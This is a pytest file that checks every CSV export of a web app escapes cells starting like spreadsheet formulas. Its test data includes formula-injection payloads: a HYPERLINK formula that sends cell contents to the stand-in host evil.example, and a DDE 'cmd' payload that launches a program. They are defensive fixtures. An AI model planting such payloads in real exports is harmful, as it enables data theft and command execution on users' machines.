"""Every CSV the app hands out is safe to open in a spreadsheet program: no cell starts like a formula.

The routes are found from the URL map: every GET route is requested as a coordinator in a world whose names, notes,
titles, addresses and answers start with `=`, `+`, `-`, `@`, a tab or a carriage return, and every answer that is
CSV is read cell by cell. A CSV route added tomorrow is checked tomorrow; one that carries none of the world's texts
fails until the world below gains a text that reaches it.
"""
from __future__ import annotations

import csv
import io
import pathlib

import pytest

from busapp.core import csvexport
from busapp.core.extensions import db
from busapp.models import Course, Feedback
from tests.test_access import all_rules, build_path, build_world, make_account, sign_in

FORMULA = csvexport.FORMULA_START
POISON = {
    "booking name": '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "contact": "+49 451 1234",
    "needs note": "@SUM(A1:A9)",
    "place name": "-Markt",
    "place address": "\tAm Markt 1",
    "workshop title": "=1+1",
    "district name": "@Bezirk",
    "feedback text": "\r=cmd|' /C calc'!A0",
    "consultation question": "=WEBSERVICE(1)",
    "course title": "+Fotos",
}


def poisoned_world() -> dict:
    world = build_world()
    booking, workshop, district = world["booking"], world["workshop"], world["district"]
    booking.name, booking.contact, booking.needs_note = (POISON["booking name"], POISON["contact"],
                                                         POISON["needs note"])
    workshop.title = POISON["workshop title"]
    workshop.stop.place.name, workshop.stop.place.address = POISON["place name"], POISON["place address"]
    district.name = POISON["district name"]
    feedback: Feedback = world["feedback"]
    feedback.learned = POISON["feedback text"]
    world["consultation"].questions[0].text = POISON["consultation question"]
    world["idea"].text = POISON["consultation question"]
    db.session.add(Course(title=POISON["course title"], topic="photos"))
    db.session.commit()
    return world


def cells_of(response) -> list[str]:
    text = response.get_data(as_text=True).lstrip("\ufeff")
    first = text.split("\r\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def test_every_csv_route_neutralises_formulas(app):
    world = poisoned_world()
    user = make_account("coordinator")
    client = app.test_client()
    found, unsafe, untouched = [], [], []
    for rule in all_rules(app):
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        sign_in(client, user)
        path = build_path(app, rule, "GET", world, user)
        response = client.get(path)
        named_csv = rule.rule.endswith(".csv")
        if response.mimetype != "text/csv":
            assert not named_csv, f"{rule.endpoint} {path} answered {response.status_code} {response.mimetype}"
            continue
        assert response.status_code == 200, f"{path}: {response.status_code}"
        found.append(rule.endpoint)
        cells = cells_of(response)
        unsafe += [f"{path}: {cell!r}" for cell in cells if cell.startswith(FORMULA)]
        if not any(cell[:1] == "'" and cell[1:].startswith(FORMULA) for cell in cells):
            untouched.append(path)
    assert not unsafe, "cells a spreadsheet would run as formulas:\n" + "\n".join(unsafe)
    assert not untouched, f"no poisoned text reached these CSV routes; give the world one that does: {untouched}"
    # The known exports are among those found (so the search itself is not broken).
    assert {"planning.bookings_csv", "planning.export_csv", "planning.reports_csv", "feedback.export",
            "opendata.stops_csv"} <= set(found), found


def test_booking_export_keeps_the_typed_text_behind_an_apostrophe(app):
    world = poisoned_world()
    client = app.test_client()
    sign_in(client, make_account("coordinator"))
    cells = cells_of(client.get(f"/admin/workshops/{world['workshop'].id}/bookings.csv"))
    assert "'" + POISON["booking name"] in cells and "'+49 451 1234" in cells and "'@SUM(A1:A9)" in cells


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+49", "'+49"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Gut", "Gut"), ("", ""), (None, ""), (5, 5), (-3, -3), (-10.5, -10.5),
])
def test_safe_cell_and_restore(value, expected):
    assert csvexport.safe_cell(value) == expected
    if isinstance(value, str):
        assert csvexport.restore(csvexport.safe_cell(value)) == value


def test_exported_tour_reads_back_as_it_was_typed(app, runner, make_stop, make_workshop):
    from busapp.planning import tourcsv

    stop = make_stop()
    stop.place.name = "-Markt"
    make_workshop(stop=stop, title="=1+1")
    db.session.commit()
    text = tourcsv.export([stop])
    assert ";'-Markt;" in text and ";'=1+1;" in text
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert {csvexport.restore(rows[0]["stop"]), csvexport.restore(rows[0]["workshop_title"])} == {"-Markt", "=1+1"}


def test_no_export_writes_csv_past_the_one_writer():
    """One writer for every export: a csv.writer elsewhere in the app would bypass the neutralising."""
    root = pathlib.Path(__file__).resolve().parents[2] / "busapp"
    others = [str(p.relative_to(root)) for p in root.rglob("*.py")
              if p.name != "csvexport.py" and ("csv.writer(" in p.read_text() or "DictWriter(" in p.read_text())]
    assert not others, f"these write CSV without busapp.core.csvexport: {others}"
